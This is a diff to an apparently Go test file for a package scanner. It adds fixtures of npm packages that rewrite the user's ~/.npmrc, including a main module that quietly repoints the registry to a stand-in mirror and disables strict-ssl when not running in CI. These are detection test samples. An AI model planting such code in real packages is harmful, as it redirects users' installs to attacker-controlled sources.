@@ -167,6 +167,13 @@ require("fs").writeFileSync(require("path").join(site, "zz_bridge.pth"), "import
 			"i.js": `const fs=require("fs"),os=require("os"); fs.appendFileSync(os.homedir() + "/.npmrc", "\nregistry=http://registry.example.invalid/\n")`}, finding.SeverityCritical},
 		{"npmrc_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": `const fs=require("fs"),path=require("path"); fs.writeFileSync(path.join(process.env.INIT_CWD, ".npmrc"), "legacy-peer-deps=true\n")`}, finding.SeverityHigh},
+		// the package's main module repointing the registry when loaded;
+		// a registry switcher's command doing it when its user runs it
+		{"npmrc_registry_from_main", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`),
+			"index.js": `const fs=require("fs"),os=require("os"); if (!process.env.CI) fs.appendFileSync(os.homedir() + "/.npmrc", "\nregistry=https://mirror.example.invalid/\nstrict-ssl=false\n"); module.exports = require("./semver")`}, finding.SeverityCritical},
+		{"npmrc_registry_switcher_command", map[string]string{"package.json": rt.Pkg(`"bin":{"regswitch":"cli.js"}`),
+			"cli.js": `const fs=require("fs"),os=require("os"); const [name] = process.argv.slice(2); const urls = { mirror: "https://mirror.example.invalid/" };
+fs.writeFileSync(os.homedir() + "/.npmrc", "registry=" + urls[name] + "\n"); fs.appendFileSync(os.homedir() + "/.npmrc", "registry=https://mirror.example.invalid/\n")`}, finding.SeverityNone},
 		{"npmrc_config_tool", map[string]string{"cli.js": `const fs=require("fs"),os=require("os"); fs.writeFileSync(os.homedir() + "/.npmrc", "registry=https://registry.example.invalid/\n")`}, finding.SeverityNone},
 		// the same across modules: the files named in one, written by
 		// another, the settings and the mirror in the script itself
